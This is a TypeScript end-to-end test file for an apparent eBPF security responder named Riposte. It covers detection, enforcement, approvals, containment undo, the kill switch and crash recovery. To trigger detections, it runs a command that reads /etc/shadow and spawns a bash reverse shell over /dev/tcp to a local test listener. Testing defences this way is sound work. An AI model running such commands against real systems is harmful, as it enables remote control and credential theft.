/** The walk that a stranger takes after `npm start`: seen, explained, stopped, asked about, undone, and all of it proved. */
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, jest } from '@jest/globals'
import { needs } from '../scripts/needs.ts'
import { eventually } from './support/eventually.ts'
import { Riposte } from './support/riposte.ts'
import { share } from './support/shared.ts'
import { TestNetwork } from './support/test-network.ts'
import { Victim } from './support/victim.ts'

const test = needs('root', 'ebpf', 'redis')
jest.setTimeout(90_000)

interface Decision {
  readonly policy: string
  readonly action: string
  readonly summary: string
  readonly mode: string
  readonly outcome: { readonly status: string } | null
}
interface AlertRow {
  readonly rule: string
  readonly output: string
  readonly decisions: readonly Decision[]
}
interface Row {
  readonly id: string
  readonly status: string
  readonly action: string
  readonly detail: string
}

let riposte: Riposte
let scratch: string

share(['root', 'ebpf', 'redis'], async (stack) => {
  scratch = await mkdtemp(join(tmpdir(), 'riposte-walk-'))
  stack.defer(() => rm(scratch, { recursive: true, force: true }))
  riposte = stack.use(await Riposte.start({ 'walk-ask.yaml': askFirst, 'walk-hold.yaml': hold }))
})

/** Every decision about the alerts of a rule whose output contains `mark`, once all are made and one satisfies. */
const decisionsAbout = (rule: string, mark: string, isWanted: (decision: Decision) => boolean) =>
  eventually(
    async () => {
      const alerts = await riposte.json<AlertRow[]>('alerts', 'list', '--rule', rule, '-n', '500')
      return alerts
        .filter(({ output }) => output.includes(mark))
        .flatMap(({ decisions }) => decisions)
    },
    (decisions) => decisions.every(({ outcome }) => outcome !== null) && decisions.some(isWanted),
  )

const isKill =
  (mode: string, status: string) =>
  ({ action, mode: at, outcome }: Decision) =>
    action === 'kill_process' && at === mode && outcome?.status === status

const cat = (name: string) => Victim.start(scratch, name, '/bin/cat', ['/etc/shadow'])
const sleeper = (name: string) => Victim.start(scratch, name, '/bin/sleep', ['300'])

const setMode = (policy: string, mode: string) => riposte.cli('policies', 'set-mode', policy, mode)

const liveContainment = (mark: string) =>
  eventually(
    async () => {
      const rows = await riposte.json<Row[]>('containments', 'list')
      return rows.find(({ status, detail }) => status === 'live' && detail.includes(mark))
    },
    (row) => row !== undefined,
  )

test('an untrusted program that opens /etc/shadow is alerted on, and audit says that it would be killed', async () => {
  await using victim = await cat('walk-audit')
  await victim.ended

  expect(victim.signal).toBeNull()
  expect(victim.printed).toMatch(/^root:/)
  const line = await riposte.alerts.until(
    (text) => text.includes('walk-audit') && text.includes('Sensitive'),
  )
  expect(line).toMatch(/^\d\d:\d\d:\d\d\.\d{9}: Warning Sensitive file .*file=\/etc\/shadow/)
  const decisions = await decisionsAbout(
    'Read sensitive file untrusted',
    'walk-audit',
    isKill('audit', 'would'),
  )
  expect(decisions.find(isKill('audit', 'would'))?.summary).toMatch(/would kill/)
})

test('in enforce the same act is killed inside the open, and not a byte of the file is printed', async () => {
  await setMode('credential-access', 'enforce')
  await riposte.untilStrikesAre('credential-access', 'enforce')

  await using victim = await cat('walk-enforce')
  await victim.ended

  expect(victim.printed).toBe('')
  expect(victim.signal).toBe('SIGKILL')
  await decisionsAbout('Read sensitive file untrusted', 'walk-enforce', isKill('enforce', 'done'))
  await setMode('credential-access', 'audit')
})

test('a reverse shell dies with its whole tree and its connection is cut', async () => {
  await setMode('reverse-shell', 'enforce')
  await using network = await TestNetwork.make()
  const { address, port } = await network.listen()

  const shell = spawn('bash', ['-c', `bash -i >& /dev/tcp/${address}/${port} 0>&1; exit 7`])
  const ended = once(shell, 'exit')
  await network.peerLeft()
  await ended

  await decisionsAbout('Reverse shell', `${address}:${port}`, isKill('enforce', 'done'))
  await setMode('reverse-shell', 'audit')
})

test('a policy that asks waits for a person, and what was approved happens once', async () => {
  await using victim = await sleeper('walk-asked')
  const id = await pendingAbout('walk-asked')

  expect(await victim.state()).toBe('S')
  await riposte.cli('approvals', 'approve', id, '--reason', 'seen it')
  await victim.ended

  expect(victim.signal).toBe('SIGKILL')
  await expect(riposte.cli('approvals', 'approve', id, '--reason', 'again')).rejects.toThrow(
    /already|approved/,
  )
  await expectOneKill('walk-asked')
})

test('a containment is listed, undone by hand, and leaves its target as it was', async () => {
  await using victim = await sleeper('walk-frozen')

  const frozen = await liveContainment('walk-frozen')
  expect(frozen?.action).toBe('freeze')
  expect(await victim.state()).toBe('T')
  await riposte.cli('containments', 'undo', frozen?.id ?? '')

  await victim.untilState('S')
})

test('the kill switch stops what is above notify, says so, and lets go again', async () => {
  await riposte.cli('kill-switch', 'on', '--reason', 'walk')
  await using victim = await sleeper('walk-spared')

  const decisions = await decisionsAbout(
    'Drop and execute',
    'walk-spared',
    ({ outcome }) => outcome?.status === 'suppressed',
  )

  expect(decisions.map(({ outcome }) => outcome?.status)).not.toContain('done')
  expect(await victim.state()).toBe('S')
  await riposte.cli('kill-switch', 'off')
})

test('the responder and its Redis killed between decision and act: after the restart the act happened once', async () => {
  await using victim = await sleeper('walk-crash')
  const id = await pendingAbout('walk-crash')
  const [detector, redis] = [await riposte.pidOf('detector'), await riposte.pidOf('redis')]

  // The node stands still while it is decided, so that the decision is durable and the act is not done.
  process.kill(detector, 'SIGSTOP')
  await riposte.cli('approvals', 'approve', id, '--reason', 'seen it')
  await riposte.crash([redis])
  process.kill(detector, 'SIGCONT')
  expect(await victim.state()).toBe('S')
  await riposte.up()
  await victim.ended

  expect(victim.signal).toBe('SIGKILL')
  await expectOneKill('walk-crash')
})

/** The id of the approval that waits for a decision about this program. */
async function pendingAbout(mark: string): Promise<string> {
  const found = await eventually(
    async () => {
      const rows = await riposte.json<Row[]>('approvals', 'list')
      return rows.find(({ detail }) => detail.includes(mark))
    },
    (row) => row !== undefined,
  )
  return found?.id ?? ''
}

async function expectOneKill(mark: string): Promise<void> {
  const decisions = await decisionsAbout('Drop and execute', mark, isKill('enforce', 'done'))
  expect(decisions.filter(isKill('enforce', 'done'))).toHaveLength(1)
  expect(await riposte.cli('audit', 'verify')).toMatch(/the chain holds/)
}

const askFirst = `apiVersion: riposte.dev/v1alpha1
kind: ClusterResponsePolicy
metadata: { name: walk-ask }
spec:
  description: Kill a dropped program once somebody agrees
  mode: enforce
  match:
    rules: { names: [Drop and execute] }
    condition: proc.name in (walk-asked, walk-crash)
  ladder:
    - name: stop
      deadline: 5m # a loaded machine takes long to come back from a crash
      do: [kill_process: { scope: process }]
      approve: { quorum: 1, reason: required, timeout: 5m, onTimeout: deny }
`

// Only this test's own programs: the repository itself may stand below /tmp.
const hold = `apiVersion: riposte.dev/v1alpha1
kind: ClusterResponsePolicy
metadata: { name: walk-hold }
spec:
  description: Freeze a dropped program
  mode: enforce
  match:
    rules: { names: [Drop and execute] }
    condition: proc.name in (walk-frozen, walk-spared)
  ladder:
    - name: hold
      do: [freeze: { scope: tree }]
      undo: { ttl: 30m }
`
